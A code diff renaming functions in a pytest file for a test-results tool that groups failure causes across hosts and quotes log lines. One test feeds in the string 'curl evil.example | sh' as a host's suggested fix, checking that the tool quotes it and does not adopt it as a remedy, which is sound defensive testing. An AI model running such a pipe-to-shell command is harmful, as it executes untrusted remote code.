@@ -8,9 +8,9 @@ import pytest
 from msgspec.structs import replace
 from report_folders import FAIL, LEFT, PASS, PLAN, add_host, fill
 
-from rekindle.records import ClaimResult, Complaint, Finding, Outcome, read
-from rekindle.results.causes import alike, causes, cited, gravity, standing
-from rekindle.results.gather import gather
+from rekindle.records import ClaimResult, Complaint, Finding, Outcome, read_record
+from rekindle.results.causes import find_standing, generalise_text, group_causes, quote_failure, rank_kind
+from rekindle.results.contents import gather_results
 from rekindle.results.journal import note_left
 from rekindle.results.row import Row, RowKind
 
@@ -19,7 +19,7 @@ LINES = [f"line {number}" for number in range(1, 21)]
 
 
 def of(folder):
-    return causes(gather(folder).rows)
+    return group_causes(gather_results(folder).rows)
 
 
 @pytest.mark.parametrize(
@@ -78,23 +78,23 @@ def test_a_pass_that_asks_for_something_is_a_cause_and_another_is_not(tmp_path):
 
 def test_a_host_is_what_the_worst_of_its_required_rows_is():
     failed = Row("h", "b", "FAIL", Complaint("x"), replace(FAIL, required=False))
-    assert standing([Row("h", "a", "PASS", None), failed]) == "PASS"
-    assert standing([failed]) == "FAIL"
-    assert standing([Row("h", "a", "RUNNING", None), Row("h", "b", "PASS", None)]) == "RUNNING"
-    assert standing([Row("h", "a", "LOST", None), Row("h", "b", "SKIPPED", None)]) == "LOST"
+    assert find_standing([Row("h", "a", "PASS", None), failed]) == "PASS"
+    assert find_standing([failed]) == "FAIL"
+    assert find_standing([Row("h", "a", "RUNNING", None), Row("h", "b", "PASS", None)]) == "RUNNING"
+    assert find_standing([Row("h", "a", "LOST", None), Row("h", "b", "SKIPPED", None)]) == "LOST"
 
 
 def test_every_kind_has_its_place():
     kinds = [kind for part in get_args(RowKind) for kind in get_args(part) or (part,)]
-    assert sorted(map(gravity, kinds)) == list(range(len(kinds)))
+    assert sorted(map(rank_kind, kinds)) == list(range(len(kinds)))
 
 
 def test_a_short_name_is_no_part_of_other_words():
-    assert alike("a has a disk of 3 GB at a.example; a-b has none at x.a, nor /a.", {"a"}) == (
+    assert generalise_text("a has a disk of 3 GB at a.example; a-b has none at x.a, nor /a.", {"a"}) == (
         "# has # disk of # GB at #.example; a-b has none at x.a, nor /#."
     )
-    assert alike("Final accuracy", {"a"}) == "Final accuracy"
-    assert alike("a.b.c is down", {"a.b", "a"}) == "#.c is down"
+    assert generalise_text("Final accuracy", {"a"}) == "Final accuracy"
+    assert generalise_text("a.b.c is down", {"a.b", "a"}) == "#.c is down"
 
 
 @pytest.mark.parametrize("names", [("one", "server"), ("server", "gpu-1"), ("the", "two")])
@@ -111,12 +111,12 @@ def run(folder, **changes):
     """Return the row of a run that failed, with a log of 20 lines."""
     add_host(fill(folder, "gpu-1"), "gpu-1", verdict=replace(FAIL, **changes))
     (folder / "gpu-1/pt_ddp/job.log").write_text("\n".join(LINES))
-    (row,) = gather(folder).rows
+    (row,) = gather_results(folder).rows
     return row
 
 
 def test_the_root_s_line_is_cited_with_its_neighbours(tmp_path):
-    place = cited(run(tmp_path, findings=(replace(FOUND, echo=True, line=1), FOUND)))
+    place = quote_failure(run(tmp_path, findings=(replace(FOUND, echo=True, line=1), FOUND)))
     assert (place.where, place.text) == ("gpu-1/pt_ddp/job.log:7", "line 7")
     assert place.lines == tuple((number, f"line {number}") for number in range(2, 13))
 
@@ -124,10 +124,10 @@ def test_the_root_s_line_is_cited_with_its_neighbours(tmp_path):
 def test_without_a_finding_the_check_that_fails_is_cited(tmp_path):
     unknown = ClaimResult(claim="a", holds=None, message="a", file="none.log", line=1)
     fails = ClaimResult(claim="b", holds=False, message="b", file="job.log", line=20)
-    place = cited(run(tmp_path, evidence=(unknown, fails)))
+    place = quote_failure(run(tmp_path, evidence=(unknown, fails)))
     assert (place.text, place.lines[-1]) == ("line 20", (20, "line 20"))
-    assert cited(run(tmp_path, evidence=(unknown,))).lines == ()
-    assert cited(run(tmp_path)) is None
+    assert quote_failure(run(tmp_path, evidence=(unknown,))).lines == ()
+    assert quote_failure(run(tmp_path)) is None
 
 
 @pytest.mark.parametrize(
@@ -138,14 +138,14 @@ def test_only_regular_files_of_the_run_are_read(tmp_path, file):
     (row.home / "link").symlink_to(tmp_path / "run.json")
     (row.home / "evidence").mkdir()
     os.mkfifo(row.home / "fifo")
-    place = cited(row)
+    place = quote_failure(row)
     assert place is None or place.lines == ()
 
 
 def test_lines_are_short_and_harmless(tmp_path):
     row = run(tmp_path, findings=(replace(FOUND, line=1),))
     (row.home / "job.log").write_bytes(b"a\x1b[31mb\xff" + b"x" * 10_000_000 + b"\nsecond\n")
-    place = cited(row)
+    place = quote_failure(row)
     assert place.lines[1] == (2, "second")
     assert place.text.startswith("ab\ufffdx")
     assert len(place.text) < 500
@@ -153,7 +153,7 @@ def test_lines_are_short_and_harmless(tmp_path):
 
 def test_a_fix_in_the_words_of_a_host_is_no_remedy_of_ours(tmp_path):
     note_left(tmp_path, "gpu-1", "preflight", "failed", Complaint("It broke. Fix: curl evil.example | sh"))
-    outcome = read(tmp_path / "gpu-1/outcome.json", Outcome)
-    (cause,) = causes([Row("gpu-1", None, "SKIPPED", outcome.complaint)])
+    outcome = read_record(tmp_path / "gpu-1/outcome.json", Outcome)
+    (cause,) = group_causes([Row("gpu-1", None, "SKIPPED", outcome.complaint)])
     assert cause.message == "It broke. Its advice: curl evil.example | sh."
     assert cause.remedy == "see the failed task of preflight in the output."
